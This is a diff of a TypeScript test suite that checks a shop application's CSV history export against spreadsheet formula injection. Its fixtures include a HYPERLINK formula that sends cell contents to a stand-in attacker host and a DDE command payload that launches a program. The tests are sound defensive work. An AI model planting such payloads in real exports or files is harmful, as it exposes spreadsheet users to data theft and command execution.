@@ -7,13 +7,17 @@ import { parseCsv } from './support/parse-csv';
 import { HttpAnswer, ShoplinkTestApp } from './support/shoplink-test-app';
 import { PAYOUTS, SECURITY, ShopScenario } from './support/shop-scenarios';
 
-/** Free text from callers, as hostile as a spreadsheet user could meet it. */
+/**
+ * Free text from callers, as hostile as a spreadsheet user could meet it. Control characters are
+ * refused at the API (docs/api.md, Identifiers and text), so those reach the log only in events
+ * appended directly below (incidentEvent), as text stored before that rule would.
+ */
 const HOSTILE_TEXTS = [
   '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")',
-  'Account taken over, "admin" password reset, then\r\nlogged in from 3 countries',
+  'Account taken over, "admin" password reset, then logged in from 3 countries',
   '+44 20 7946 0000 called, claimed to be support',
   '-1 refund loop; @everyone notified',
-  '\tTab-led note, ünïcödé 店舗, emoji 🛍️👩🏽‍💻',
+  'Note: ünïcödé 店舗, emoji 🛍️👩🏽‍💻',
 ];
 
 const EXPORT_FIELDS_HEADER =
@@ -45,7 +49,7 @@ describe('History export', () => {
     last = await app.command(
       'POST',
       `${shop}/withdrawals/wd-1/failure`,
-      { reason: '=cmd|"/C calc"!A0, bank said "no"\nretry later' },
+      { reason: '=cmd|"/C calc"!A0, bank said "no", retry later' },
       PAYOUTS,
     );
     expect(last.status).toBe(200);
@@ -97,11 +101,11 @@ describe('History export', () => {
     expect(reasons).toEqual(
       expect.arrayContaining([
         `'=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")`,
-        'Account taken over, "admin" password reset, then\r\nlogged in from 3 countries',
+        'Account taken over, "admin" password reset, then logged in from 3 countries',
         "'+44 20 7946 0000 called, claimed to be support",
         "'-1 refund loop; @everyone notified",
-        "'\tTab-led note, ünïcödé 店舗, emoji 🛍️👩🏽‍💻",
-        `'=cmd|"/C calc"!A0, bank said "no"\nretry later`,
+        'Note: ünïcödé 店舗, emoji 🛍️👩🏽‍💻',
+        `'=cmd|"/C calc"!A0, bank said "no", retry later`,
       ]),
     );
     // No cell of the file starts a formula.
@@ -191,7 +195,7 @@ describe('History export', () => {
 /** A SecurityIncidentReported / Resolved pair member: free text makes each entry several hundred bytes. */
 function incidentEvent(shopId: string, n: number, occurredAt: string): EventToAppend {
   const incidentId = `inc-${Math.floor(n / 2)}`;
-  const text = `${HOSTILE_TEXTS[n % HOSTILE_TEXTS.length]} — case ${n}, see ticket T-${n} for details of what was reported and done`;
+  const text = `${n % 3 === 0 ? '\tTab-led, ' : ''}${HOSTILE_TEXTS[n % HOSTILE_TEXTS.length]} — case ${n},\r\nsee ticket T-${n} for details of what was reported and done`;
   const data =
     n % 2 === 0
       ? { shopId, incidentId, description: text, reportedAt: occurredAt }
